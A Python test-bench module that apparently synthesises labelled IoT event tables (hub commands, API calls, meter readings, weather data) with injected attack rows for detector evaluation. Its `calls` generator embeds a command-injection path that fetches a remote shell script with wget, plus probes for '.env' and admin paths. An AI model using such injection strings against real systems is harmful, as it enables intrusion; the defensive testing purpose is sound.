"""Tables of labelled events of devices as anybody writes them, for `made_recordings`: commands, calls, meters, weather.

A table is a function of a random generator, a number of ordinary rows and one of attacks that gives columns of texts, ordinary rows first.
Nothing in them is from a published table but the columns' names of `weather` (ToN-IoT, Moustafa 2021).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

import numpy as np

from tests.bench.quality.made_life import Random

Columns = dict[str, list[str]]


def drawn(random: Random, values: str, chances: list[float], count: int) -> list[str]:
    """Texts, each with its chance."""
    return [str(one) for one in random.choice(values.split("|"), count, p=chances)]


def commands(random: Random, good: int, bad: int) -> Columns:
    """What hubs tell locks, lamps and blinds to do; attacks are unlockings that are sent again by somebody near, strong and at once."""
    rows = good + bad
    hub = random.integers(0, 14, rows)
    strength = -62.0 + 2.0 * (hub % 7) + random.normal(0.0, 3.0, rows)
    strength[good:] = random.normal(-38.0, 3.0, bad)
    delay = random.lognormal(4.6, 0.4, rows)
    delay[good:] = random.lognormal(3.2, 0.3, bad)
    told = drawn(random, "on|off|dim|open|close|lock|unlock", [0.27, 0.27, 0.2, 0.08, 0.08, 0.05, 0.05], good)
    by = drawn(random, "app|schedule|button|voice", [0.3, 0.4, 0.2, 0.1], good)
    ended = drawn(random, "ok|retry|timeout", [0.95, 0.04, 0.01], good)
    return {
        "device": [f"hub-{one:02d}" for one in hub],
        "command": told + ["unlock"] * bad,
        "source": by + ["app"] * bad,
        "rssi_dbm": [f"{one:.0f}" for one in strength],
        "delay_ms": [f"{one:.1f}" for one in delay],
        "battery": [f"{one:.0f}" for one in 60 + 3 * (hub % 9) + random.normal(0.0, 1.0, rows)],
        "result": ended + ["ok"] * bad,
    }


def calls(random: Random, good: int, bad: int) -> Columns:
    """Calls of cameras and meters to an interface over pages; attacks look for what is there, and try commands."""
    kind = random.choice(5, good, p=[0.5, 0.25, 0.15, 0.07, 0.03])
    paths = ("/v1/telemetry", "/v1/config", "/v1/firmware", "/v1/token", "/v1/images")
    found = [f"{paths[one]}/{random.integers(0, 40)}" if one in (1, 4) else paths[one] for one in kind]
    sought = [
        f"/{random.choice(['admin', 'backup', 'cgi-bin', '.env', 'old'])}{random.integers(0, 999)}"
        for _ in range(bad)
    ]
    tried = random.random(bad) < 0.2
    sought = [
        "/v1/config/1;wget http://45.1.2.3/x.sh" if odd else one
        for one, odd in zip(sought, tried, strict=True)
    ]
    size = np.concatenate([np.array([350.0, 900, 40_000, 500, 90_000])[kind], np.full(bad, 180.0)])
    size *= np.exp(random.normal(0.0, 0.3, good + bad))
    code = drawn(random, "200|304|401|404|500", [0.93, 0.04, 0.01, 0.015, 0.005], good)
    return {
        "source_ip": [f"10.8.{one % 3}.{one}" for one in random.integers(2, 32, good)] + ["10.8.1.13"] * bad,
        "method": ["POST" if one in (0, 3) else "GET" for one in kind] + ["GET"] * bad,
        "path": found + sought,
        "status": code + drawn(random, "404|403|400|200", [0.85, 0.08, 0.05, 0.02], bad),
        "bytes": [f"{one:.0f}" for one in size],
        "latency_ms": [f"{one:.1f}" for one in random.lognormal(3.0, 0.6, good + bad)],
        "agent": drawn(random, "cam/2.1|cam/2.2|meter/1.0", [0.4, 0.3, 0.3], good) + ["curl/7.58"] * bad,
    }


def meters(random: Random, good: int, bad: int) -> Columns:
    """Meters of flats; attacks tell a third less power than voltage and current make."""
    rows = good + bad
    flat = random.integers(0, 25, rows)
    current = random.lognormal(0.3 + 0.1 * (flat % 5), 0.7, rows)
    voltage = 230.0 + random.normal(0.0, 2.5, rows)
    factor = np.clip(random.normal(0.94, 0.02, rows), 0.6, 1.0)
    power = voltage * current * factor
    power[good:] *= random.uniform(0.55, 0.7, bad)
    return {
        "meter_id": [f"m{one}" for one in flat],
        "device": [f"flat-{one}" for one in flat],
        "voltage": [f"{one:.1f}" for one in voltage],
        "current": [f"{one:.2f}" for one in current],
        "power": [f"{one:.0f}" for one in power],
        "frequency": [f"{one:.2f}" for one in random.normal(50.0, 0.02, rows)],
        "tariff": drawn(random, "day|night", [0.6, 0.4], rows),
    }


def weather(random: Random, good: int, bad: int) -> Columns:
    """A weather station that wanders slowly; attacks write what is usual somewhere else."""
    rows = good + bad
    walk = np.cumsum(random.normal(0.0, 0.05, (rows, 3)), axis=0)
    walk -= np.linspace(0.0, 1.0, rows)[:, None] * walk[-1]
    near = np.array([36.0, 2.0, 50.0]) + walk + random.normal(0.0, [1.0, 0.4, 3.0], (rows, 3))
    near[good:] = random.uniform([20.0, -8.0, 10.0], [50.0, 12.0, 95.0], (bad, 3))
    return {
        "temperature": [f"{one:.4f}" for one in near[:, 0]],
        "pressure": [f"{one:.4f}" for one in near[:, 1]],
        "humidity": [f"{one:.4f}" for one in near[:, 2]],
    }


class Record(NamedTuple):
    """A table of `rows`, of which a share is attacks that begin at `start` of the ordinary ones."""

    name: str
    make: Callable[[Random, int, int], Columns]
    rows: int
    share: float
    start: float = 0.3


RECORDS = [
    Record("hub commands", commands, 12_000, 0.03),
    Record("page calls", calls, 12_000, 0.4, 0.1),
    Record("flat meters", meters, 12_000, 0.04),
    Record("weather station", weather, 12_000, 0.15),
]
